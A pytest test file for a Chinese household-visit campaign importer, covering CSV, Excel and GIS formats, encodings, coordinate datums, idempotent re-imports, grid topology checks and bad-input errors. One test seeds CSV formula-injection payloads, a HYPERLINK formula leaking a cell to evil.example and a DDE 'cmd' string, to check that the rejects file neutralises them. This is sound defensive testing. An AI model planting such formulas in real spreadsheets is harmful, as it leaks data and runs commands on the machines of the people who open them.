"""Importing targets, grids and cadres: formats, encodings, CRS, idempotency, bad input.

Every bad-input test checks the message names the file, row and field and says what was
expected, and that nothing was written (the store keeps exactly what it had).
"""

from __future__ import annotations

import csv
from pathlib import Path

import geopandas as gpd
import numpy as np
import pytest
import shapely
from openpyxl import Workbook
from sqlalchemy import func, select

from zoufang._errors import ValidationError
from zoufang.campaign.imports.importer import (
    ImportRefused,
    import_cadres,
    import_grids,
    import_targets,
)
from zoufang.campaign.store import Cadre, DataProblem, Grid, ImportRun, Store, Target, Village
from zoufang.gis.crs import wgs84_to_bd09, wgs84_to_gcj02

from ...builders import grid_frame

HEAD = ["编号", "姓名", "类型", "地址", "电话", "经度", "纬度", "标签", "网格"]
# (id, name, kind, address, phone, lon, lat, tags, grid) — expected placement in comments
ROWS = [
    ["H1", "张三", "居民家庭", "测试村1组1号", "13812341234", "116.605", "37.405", "信访户", "G1"],
    ["H2", "李四", "农户", "测试村1组2号", "", "116.615", "37.405", "困难户、老党员", "G2"],
    ["H3", "王五", "household", "测试村2组1号", "0534-1234567", "116.605", "37.415", "", "G3"],
    # on the shared edge of G1 and G2: goes to G1 (the smaller id)
    ["H4", "赵六", "居民家庭", "测试村2组2号", "", "116.61", "37.405", "", "G1"],
    ["E1", "宏达机械厂", "企业", "测试村工业园", "13900001111", "116.615", "37.415", "列统企业", "G4"],
]


def write_csv(path: Path, rows: list[list[str]], *, encoding: str = "utf-8",
              head: list[str] | None = None) -> Path:
    """Write a CSV as Excel would, in ``encoding``."""
    with path.open("w", encoding=encoding, newline="") as f:
        w = csv.writer(f)
        w.writerow(head or HEAD)
        w.writerows(rows)
    return path


def counts(store: Store) -> dict[str, int]:
    """Rows per table, to show nothing was half-imported."""
    with store.session() as s:
        return {m.__tablename__: s.scalar(select(func.count()).select_from(m))
                for m in (Target, Grid, Cadre, ImportRun)}


@pytest.fixture
def with_grids(store: Store, grids_file: Path) -> Store:
    """The store with the 2 × 2 test grids imported."""
    import_grids(store, grids_file)
    return store


# ------------------------------------------------------------------ formats and encodings

@pytest.mark.parametrize("encoding,expected", [("utf-8", "utf-8"), ("utf-8-sig", "utf-8-sig"),
                                               ("gbk", "gbk"), ("gb18030", "gb18030")])
def test_csv_encodings_detected(with_grids: Store, tmp_path: Path, encoding: str,
                                expected: str) -> None:
    """UTF-8, UTF-8 with BOM, GBK and GB18030 CSV files import with their names intact."""
    rows = [r[:] for r in ROWS]
    if encoding == "gb18030":
        rows[0][1] = "张𠀀"  # a character outside GBK forces GB18030
    path = write_csv(tmp_path / "t.csv", rows, encoding=encoding)
    report = import_targets(with_grids, path)
    assert report.encoding == expected
    assert report.inserted == 5
    with with_grids.session() as s:
        assert s.scalar(select(Target.name).where(Target.ext_id == "H1")) == rows[0][1]
        assert s.scalar(select(Target.tags).where(Target.ext_id == "H2")) == [
            "hardship", "old_party_member"]


def test_placement_in_grids(with_grids: Store, tmp_path: Path) -> None:
    """Each target lands in the grid containing it; a shared edge goes to the smaller id."""
    import_targets(with_grids, write_csv(tmp_path / "t.csv", ROWS))
    with with_grids.session() as s:
        got = dict(s.execute(select(Target.ext_id, Grid.ext_id).join(Grid)).all())
        placement = dict(s.execute(select(Target.ext_id, Target.placement)).all())
    assert got == {"H1": "G1", "H2": "G2", "H3": "G3", "H4": "G1", "E1": "G4"}
    assert set(placement.values()) == {"inside"}


def test_xlsx_with_english_headers(with_grids: Store, tmp_path: Path) -> None:
    """An Excel file with English headers and numeric cells imports (ids stay '1001')."""
    wb = Workbook()
    ws = wb.active
    ws.append(["id", "name", "kind", "address", "phone", "lon", "lat", "tags", "grid"])
    ws.append([1001, "Shop A", "shop", "Main St 1", 13812345678, 116.605, 37.405, None, "G1"])
    ws.append([1002, "School", "学校", "Main St 2", None, 116.615, 37.415, None, None])
    path = tmp_path / "units.xlsx"
    wb.save(path)
    report = import_targets(with_grids, path)
    assert (report.inserted, report.encoding) == (2, "xlsx")
    with with_grids.session() as s:
        rows = s.execute(select(Target.ext_id, Target.kind, Target.phone)
                         .order_by(Target.ext_id)).all()
    assert [tuple(r) for r in rows] == [("1001", "shop", "13812345678"),
                                        ("1002", "school", None)]


def test_vector_targets_shapefile_projected_gbk(with_grids: Store, tmp_path: Path) -> None:
    """A Shapefile in CGCS2000 / 3-degree Gauss-Krüger (EPSG:4548) with GBK attributes."""
    pts = gpd.GeoDataFrame({"编号": ["S1", "S2"], "名称": ["甲", "乙"], "类型": ["商铺", "市场"]},
                           geometry=[shapely.Point(116.605, 37.405),
                                     shapely.Point(116.615, 37.415)], crs="EPSG:4326")
    path = tmp_path / "shops.shp"
    pts.to_crs(4548).to_file(path, encoding="gbk")
    assert (tmp_path / "shops.cpg").exists()
    import_targets(with_grids, path)
    with with_grids.session() as s:
        rows = s.execute(select(Target.ext_id, Target.name, Target.lon, Target.lat,
                                Grid.ext_id).join(Grid).order_by(Target.ext_id)).all()
    assert [(r[0], r[1], r[4]) for r in rows] == [("S1", "甲", "G1"), ("S2", "乙", "G4")]
    assert rows[0][2] == pytest.approx(116.605, abs=1e-7)
    assert rows[0][3] == pytest.approx(37.405, abs=1e-7)


def test_geopackage_grids_and_targets(store: Store, tmp_path: Path) -> None:
    """Grids and targets in GeoPackage files import like GeoJSON."""
    grid_frame().to_file(tmp_path / "g.gpkg", driver="GPKG")
    import_grids(store, tmp_path / "g.gpkg")
    pts = gpd.GeoDataFrame({"编号": ["P1"], "类型": ["机关"]},
                           geometry=[shapely.Point(116.615, 37.405)], crs="EPSG:4326")
    pts.to_file(tmp_path / "t.gpkg", driver="GPKG")
    import_targets(store, tmp_path / "t.gpkg")
    with store.session() as s:
        assert s.scalar(select(Grid.ext_id).join(Target, Target.grid_id == Grid.id)) == "G2"
        village = s.scalars(select(Village)).one()
    assert (village.name, village.tags) == ("测试村", ["weak_village"])


@pytest.mark.parametrize("crs", ["gcj02", "bd09"])
def test_chinese_datums_converted(with_grids: Store, tmp_path: Path, crs: str) -> None:
    """GCJ-02 and BD-09 points are stored as WGS-84 to well under 1 m."""
    lon = np.array([116.605, 116.615, 116.605, 116.615])
    lat = np.array([37.405, 37.405, 37.415, 37.415])
    x, y = (wgs84_to_gcj02 if crs == "gcj02" else wgs84_to_bd09)(lon, lat)
    rows = [[f"H{i}", "", "住户", "", "", f"{x[i]:.9f}", f"{y[i]:.9f}", "", ""]
            for i in range(4)]
    import_targets(with_grids, write_csv(tmp_path / "t.csv", rows), crs=crs)
    with with_grids.session() as s:
        got = s.execute(select(Target.lon, Target.lat, Target.source_crs)
                        .order_by(Target.ext_id)).all()
    for (glon, glat, src), elon, elat in zip(got, lon, lat, strict=True):
        assert abs(glon - elon) * 88_500 < 0.01 and abs(glat - elat) * 111_000 < 0.01
        assert src == crs


# ------------------------------------------------------------------ idempotency and updates

def test_reimport_is_idempotent_and_updates_in_place(with_grids: Store, tmp_path: Path) -> None:
    """Same file twice changes nothing; an updated file updates rows, never duplicates."""
    path = write_csv(tmp_path / "t.csv", ROWS)
    first = import_targets(with_grids, path)
    second = import_targets(with_grids, path)
    assert (first.inserted, second.inserted, second.updated, second.unchanged) == (5, 0, 0, 5)
    changed = [r[:] for r in ROWS[1:]] + [
        ["H9", "钱七", "居民家庭", "", "", "116.616", "37.416", "", "G4"]]
    changed[0][3] = "测试村1组2号(新)"  # H2's address changed; H1 left out of the file
    third = import_targets(with_grids, write_csv(tmp_path / "t.csv", changed))
    assert (third.inserted, third.updated, third.unchanged, third.not_in_file) == (1, 1, 3, 1)
    with with_grids.session() as s:
        assert s.scalar(select(func.count()).select_from(Target)) == 6
        h2 = s.scalars(select(Target).where(Target.ext_id == "H2")).one()
        assert (h2.address, h2.version) == ("测试村1组2号(新)", 2)
        assert s.scalar(select(func.count()).select_from(ImportRun)) == 4  # grids + 3


def test_grids_reimport_updates_geometry_and_replaces(store: Store, tmp_path: Path) -> None:
    """Re-importing grids with a moved boundary updates the polygon and re-places targets."""
    grid_frame().to_file(tmp_path / "g.geojson", driver="GeoJSON")
    import_grids(store, tmp_path / "g.geojson")
    import_targets(store, write_csv(tmp_path / "t.csv", ROWS))
    boxes = {"G1": (116.60, 37.40, 116.612, 37.41), "G2": (116.612, 37.40, 116.62, 37.41),
             "G3": (116.60, 37.41, 116.61, 37.42), "G4": (116.61, 37.41, 116.62, 37.42)}
    grid_frame(boxes).to_file(tmp_path / "g2.geojson", driver="GeoJSON")
    report = import_grids(store, tmp_path / "g2.geojson")
    assert (report.inserted, report.updated, report.unchanged) == (0, 2, 2)
    with store.session() as s:
        assert s.scalar(select(Grid.ext_id).join(Target, Target.grid_id == Grid.id)
                        .where(Target.ext_id == "H4")) == "G1"
        assert s.scalar(select(func.count()).select_from(Grid)) == 4


# ------------------------------------------------------------------ bad input

BAD_ROWS = [
    # (row to put at line 3, field named in the message, words the message must contain)
    (["X1", "", "居民家庭", "", "", "abc", "37.405", "", ""], "经度", "expected a number"),
    (["X1", "", "居民家庭", "", "", "37.405", "116.605", "", ""], "经度/纬度", "look swapped"),
    (["X1", "", "居民家庭", "", "", "0", "0", "", ""], "经度/纬度", "(0, 0)"),
    (["X1", "", "居民家庭", "", "", "2.35", "48.85", "", ""], "经度/纬度", "outside China"),
    (["X1", "", "居民家庭", "", "", "116.605", "", "", ""], "纬度", "only one of"),
    (["X1", "", "别墅", "", "", "116.605", "37.405", "", ""], "类型", "unknown kind"),
    (["X1", "", "", "", "", "116.605", "37.405", "", ""], "类型", "kind is empty"),
    # an unknown tag (VIP户) is kept as a free tag now (tests/campaign/imports/test_office_files.py)
    (["1.38E+10", "", "居民家庭", "", "", "116.605", "37.405", "", ""], "编号",
     "scientific notation"),
    (["X1", "", "居民家庭", "", "", "117°70′", "37.405", "", ""], "经度",
     "degrees-minutes-seconds"),
    (["", "", "居民家庭", "", "", "116.605", "37.405", "", ""], "编号", "id is empty"),
    (["H1", "", "居民家庭", "", "", "116.605", "37.405", "", ""], "编号", "already used on row 2"),
]


@pytest.mark.parametrize("bad,field,words", BAD_ROWS)
def test_bad_target_row_refuses_whole_file(with_grids: Store, tmp_path: Path,
                                           bad: list[str], field: str, words: str) -> None:
    """One bad row refuses the file; the error names file, row 3 and the field."""
    before_path = write_csv(tmp_path / "before.csv", ROWS[2:4])
    import_targets(with_grids, before_path)
    before = counts(with_grids)
    path = write_csv(tmp_path / "bad.csv", [ROWS[0], bad, ROWS[1]])
    with pytest.raises(ImportRefused) as err:
        import_targets(with_grids, path)
    assert counts(with_grids) == before
    problems = [p for p in err.value.problems if p.row == 3]
    assert problems, str(err.value)
    assert any(p.field == field and words in p.message for p in problems), str(err.value)
    text = str(err.value)
    assert "bad.csv" in text and "row 3" in text and "nothing imported" in text


def test_skip_invalid_writes_rejects(with_grids: Store, tmp_path: Path) -> None:
    """--skip-invalid imports the valid rows and writes the bad ones with reasons."""
    rows = [ROWS[0], BAD_ROWS[1][0], ROWS[1], BAD_ROWS[5][0][:0] + ["X2", "", "别墅", "", "",
                                                                  "116.6", "37.4", "", ""]]
    path = write_csv(tmp_path / "mixed.csv", rows)
    report = import_targets(with_grids, path, skip_invalid=True)
    assert (report.inserted, report.rejected) == (2, 2)
    assert report.rejects_file is not None
    with open(report.rejects_file, encoding="utf-8-sig", newline="") as f:
        rejected = list(csv.reader(f))
    assert rejected[0][0] == "行号/row" and rejected[0][-1] == "原因/reason"
    assert [r[0] for r in rejected[1:]] == ["3", "5"]
    assert "look swapped" in rejected[1][-1] and "unknown kind" in rejected[2][-1]


def test_rejects_file_quotes_formula_text(with_grids: Store, tmp_path: Path) -> None:
    """The rejects file writes an upload's formula-shaped cells as text, ``'`` in front.

    No field starts with ``=``, ``+``, ``-``, ``@``, tab or CR; the rejected row's name,
    address, phone and longitude are there as ``'`` and their original characters; the
    row numbers stay bare numbers.
    """
    name = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
    bad = ["X2", name, "别墅", "@SUM(1+1)*cmd|' /C calc'!A0", "+86 13812341234", "-116.6",
           "37.4", "", ""]
    tab = ["X3", "\t=1+2", "居民家庭", "\r=3+4", "", "abc", "37.405", "", ""]
    path = write_csv(tmp_path / "mixed.csv", [ROWS[0], bad, tab, ROWS[1]])
    report = import_targets(with_grids, path, skip_invalid=True)
    assert (report.inserted, report.rejected) == (2, 2) and report.rejects_file is not None
    with open(report.rejects_file, encoding="utf-8-sig", newline="") as f:
        rejected = list(csv.reader(f))
    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rejected for v in r)
    assert [r[0] for r in rejected[1:]] == ["3", "4"]
    assert rejected[1][1:8] == ["X2", "'" + name, "别墅", "'" + bad[3], "'" + bad[4],
                                "'-116.6", "37.4"]
    # the reader strips a cell's surrounding white space: what is left is quoted
    assert rejected[2][1:5] == ["X3", "'=1+2", "居民家庭", "'=3+4"]


def test_missing_columns_named(with_grids: Store, tmp_path: Path) -> None:
    """A file without an id column or coordinates is refused naming the expected headers."""
    path = write_csv(tmp_path / "t.csv", [["张三", "居民家庭"]], head=["姓名", "类型"])
    with pytest.raises(ImportRefused) as err:
        import_targets(with_grids, path)
    msg = str(err.value)
    assert "required column 编号/id is missing" in msg and "姓名, 类型" in msg
    assert counts(with_grids)["targets"] == 0


@pytest.mark.parametrize("name,content,words", [
    ("empty.csv", b"", "empty"),
    ("t.dbf", b"x", "unknown file type"),
    ("t.xlsx", b"not a zip", "not a readable .xlsx"),
    ("t.geojson", b"{not json", "cannot read as a vector file"),
])
def test_unreadable_files(with_grids: Store, tmp_path: Path, name: str, content: bytes,
                          words: str) -> None:
    """Unreadable files are refused with the file's name and what was expected."""
    path = tmp_path / name
    path.write_bytes(content)
    with pytest.raises(ValidationError) as err:
        import_targets(with_grids, path)
    assert name in str(err.value) and words in str(err.value)
    assert counts(with_grids)["targets"] == 0


def test_gcj02_file_imported_as_wgs84_is_refused(with_grids: Store, tmp_path: Path) -> None:
    """Points picked on Amap (GCJ-02) but declared WGS-84 land off their grids: refused."""
    rng = np.random.default_rng(7)
    lon = rng.uniform(116.6005, 116.6195, 60)
    lat = rng.uniform(37.4005, 37.4195, 60)
    x, y = wgs84_to_gcj02(lon, lat)
    rows = [[f"H{i}", "", "住户", "", "", f"{x[i]:.7f}", f"{y[i]:.7f}", "",
             f"G{1 + (lon[i] > 116.61) + 2 * (lat[i] > 37.41)}"] for i in range(60)]
    path = write_csv(tmp_path / "amap.csv", rows)
    with pytest.raises(ImportRefused) as err:
        import_targets(with_grids, path)
    assert "look like GCJ02, not WGS84" in str(err.value) and "--crs gcj02" in str(err.value)
    assert counts(with_grids)["targets"] == 0
    report = import_targets(with_grids, path, crs="gcj02")
    assert report.placement == {"inside": 60}


def test_accept_crs_keeps_declared(with_grids: Store, tmp_path: Path) -> None:
    """--accept-crs imports as declared and keeps the suspicion as a note."""
    lon, lat = np.linspace(116.601, 116.619, 30), np.linspace(37.401, 37.409, 30)
    x, y = wgs84_to_gcj02(lon, lat)
    rows = [[f"H{i}", "", "住户", "", "", f"{x[i]:.7f}", f"{y[i]:.7f}", "",
             "G1" if lon[i] < 116.61 else "G2"] for i in range(30)]
    report = import_targets(with_grids, write_csv(tmp_path / "a.csv", rows), accept_crs=True)
    assert report.inserted == 30 and "GCJ02" in report.notes[0]


def test_snapped_and_outside(with_grids: Store, tmp_path: Path) -> None:
    """30 m west of G1 is snapped to it (flagged); 200 m west is outside any grid (listed)."""
    deg_per_m = 1 / (111_320 * np.cos(np.radians(37.405)))
    rows = [["N1", "", "住户", "", "", f"{116.60 - 30 * deg_per_m:.8f}", "37.405", "", ""],
            ["F1", "", "住户", "", "", f"{116.60 - 200 * deg_per_m:.8f}", "37.405", "", ""]]
    report = import_targets(with_grids, write_csv(tmp_path / "t.csv", rows))
    assert report.placement == {"snapped": 1, "outside": 1}
    with with_grids.session() as s:
        n1 = s.scalars(select(Target).where(Target.ext_id == "N1")).one()
        f1 = s.scalars(select(Target).where(Target.ext_id == "F1")).one()
        probs = {p.code: p for p in s.scalars(select(DataProblem)
                                              .where(DataProblem.scope == "placement"))}
        assert n1.grid.ext_id == "G1" and n1.snap_m == pytest.approx(30, abs=1)
    assert f1.grid_id is None and f1.snap_m == pytest.approx(200, abs=2)
    assert "coverage gap" in probs["outside_grids"].message and probs["outside_grids"].ref == "F1"
    assert probs["snapped"].ref == "N1"


def test_declared_grid_mismatch_and_no_point(with_grids: Store, tmp_path: Path) -> None:
    """A row naming another grid than its point's is flagged; no point → its declared grid."""
    rows = [["M1", "", "住户", "", "", "116.605", "37.405", "", "G4"],
            ["D1", "", "住户", "", "", "", "", "", "G3"],
            ["U1", "", "住户", "", "", "", "", "", ""]]
    report = import_targets(with_grids, write_csv(tmp_path / "t.csv", rows))
    assert report.placement == {"inside": 1, "declared": 1, "unplaced": 1}
    assert any(p.code == "no_point" and p.row == 4 for p in report.problems)
    with with_grids.session() as s:
        codes = dict(s.execute(select(DataProblem.ref, DataProblem.code)
                               .where(DataProblem.scope == "placement")).all())
    assert codes == {"M1": "grid_mismatch", "D1": "placed_by_grid", "U1": "unplaced"}


def test_bad_phone_kept_with_masked_warning(with_grids: Store, tmp_path: Path) -> None:
    """A malformed phone is kept as given, warned about, and masked in the warning."""
    rows = [["H1", "张三", "住户", "", "1381234567899", "116.605", "37.405", "", ""]]
    report = import_targets(with_grids, write_csv(tmp_path / "t.csv", rows))
    (w,) = report.problems
    assert w.code == "bad_phone" and w.row == 2 and w.field == "电话"
    assert w.value == "138******7899" and "1381234567899" not in str(w)


# ------------------------------------------------------------------ grids

def test_grid_defects_reported(store: Store, tmp_path: Path) -> None:
    """An overlap, a gap and a bow-tie polygon are reported with area and location."""
    boxes = {"G1": (116.60, 37.40, 116.611, 37.41),   # overlaps G2 by 0.001° × 0.01°
             "G2": (116.61, 37.40, 116.62, 37.41),
             "G3": (116.60, 37.41, 116.61, 37.42),
             "G4": (116.61, 37.41, 116.62, 37.42)}
    frame = grid_frame(boxes)
    # G4 misses a 0.0002° square at the corner shared by all four: a hole inside.
    frame.loc[3, "geometry"] = shapely.box(*boxes["G4"]).difference(
        shapely.box(116.61, 37.41, 116.6102, 37.4102))
    bowtie = shapely.Polygon([(116.63, 37.40), (116.64, 37.41), (116.64, 37.40),
                              (116.63, 37.41), (116.63, 37.40)])
    frame.loc[len(frame)] = ["G5", "蝴蝶网格", "测试村", "测试镇", "", bowtie]
    frame.to_file(tmp_path / "g.geojson", driver="GeoJSON")
    report = import_grids(store, tmp_path / "g.geojson")
    codes = sorted(p.code for p in report.problems)
    assert codes.count("overlap") == 1 and codes.count("gap") == 1, codes
    with store.session() as s:
        topo = {p.code: p for p in s.scalars(select(DataProblem)
                                             .where(DataProblem.scope == "topology"))}
        g5 = s.scalars(select(Grid).where(Grid.ext_id == "G5")).one()
    m_lon = 111_320 * np.cos(np.radians(37.405))
    assert topo["overlap"].area_m2 == pytest.approx(0.001 * m_lon * 0.01 * 111_000, rel=0.02)
    assert topo["gap"].area_m2 == pytest.approx(0.0002 * m_lon * 0.0002 * 111_000, rel=0.02)
    assert topo["gap"].lon == pytest.approx(116.6101, abs=1e-4)
    assert topo["gap"].lat == pytest.approx(37.4101, abs=1e-4)
    assert "G1, G2, G3, G4" in topo["gap"].message
    assert "repaired" in topo and g5.repaired and g5.geom.is_valid


def test_grids_bad_geometry_and_duplicates(store: Store, tmp_path: Path) -> None:
    """Point geometries and duplicate grid ids refuse the grids file, naming the rows."""
    frame = grid_frame()
    frame.loc[len(frame)] = ["G1", "重复", "测试村", "测试镇", "", shapely.box(116.7, 37.4, 116.71, 37.41)]
    frame.to_file(tmp_path / "dup.geojson", driver="GeoJSON")
    with pytest.raises(ImportRefused) as err:
        import_grids(store, tmp_path / "dup.geojson")
    assert "row 5" in str(err.value) and "already used on row 1" in str(err.value)
    pts = gpd.GeoDataFrame({"编号": ["P"]}, geometry=[shapely.Point(116.6, 37.4)], crs=4326)
    pts.to_file(tmp_path / "pts.geojson", driver="GeoJSON")
    with pytest.raises(ImportRefused) as err:
        import_grids(store, tmp_path / "pts.geojson")
    assert "expected a Polygon or MultiPolygon, got Point" in str(err.value)
    assert counts(store)["grids"] == 0


def test_grids_of_another_township_refused(store: Store, grids_file: Path) -> None:
    """Grids whose 乡镇 differs from --township are refused row by row."""
    with pytest.raises(ImportRefused) as err:
        import_grids(store, grids_file, township="别的镇")
    assert "grid belongs to '测试镇'" in str(err.value)


# ------------------------------------------------------------------ cadres

CADRE_HEAD = ["编号", "姓名", "级别", "单位", "电话", "基地经度", "基地纬度", "每日小时", "可用天数"]


def test_cadres_import(with_grids: Store, tmp_path: Path) -> None:
    """Cadres with Chinese ranks and bases import; zero hours is kept with a warning."""
    rows = [["C1", "周书记", "副处级", "县委", "13700001111", "116.61", "37.41", "3", "10"],
            ["C2", "吴干事", "科员", "镇政府", "", "116.61", "37.41", "3", "10"],
            ["C3", "郑网格", "网格员", "测试村", "", "", "", "0", "10"]]
    report = import_cadres(with_grids, write_csv(tmp_path / "c.csv", rows, head=CADRE_HEAD,
                                                 encoding="utf-8-sig"))
    assert report.inserted == 3
    assert {p.code for p in report.problems} == {"no_capacity", "no_point"}
    with with_grids.session() as s:
        ranks = dict(s.execute(select(Cadre.ext_id, Cadre.rank)).all())
    assert ranks == {"C1": "deputy_division", "C2": "clerk", "C3": "grid_worker"}


@pytest.mark.parametrize("bad,field,words", [
    (["C9", "某", "处长大人", "", "", "116.6", "37.4", "3", "10"], "级别", "unknown rank"),
    (["C9", "某", "科员", "", "", "116.6", "37.4", "30", "10"], "每日小时",
     "expected a number from 0 to 24"),
    (["C9", "某", "科员", "", "", "116.6", "37.4", "3", "2.5"], "可用天数",
     "expected a whole number"),
    (["C9", "", "科员", "", "", "116.6", "37.4", "3", "10"], "姓名", "name is empty"),
])
def test_bad_cadre_rows(with_grids: Store, tmp_path: Path, bad: list[str], field: str,
                        words: str) -> None:
    """Bad cadre rows refuse the file, naming row and field."""
    path = write_csv(tmp_path / "c.csv", [bad], head=CADRE_HEAD)
    with pytest.raises(ImportRefused) as err:
        import_cadres(with_grids, path)
    (p,) = err.value.problems
    assert (p.row, p.field) == (2, field) and words in p.message
    assert counts(with_grids)["cadres"] == 0
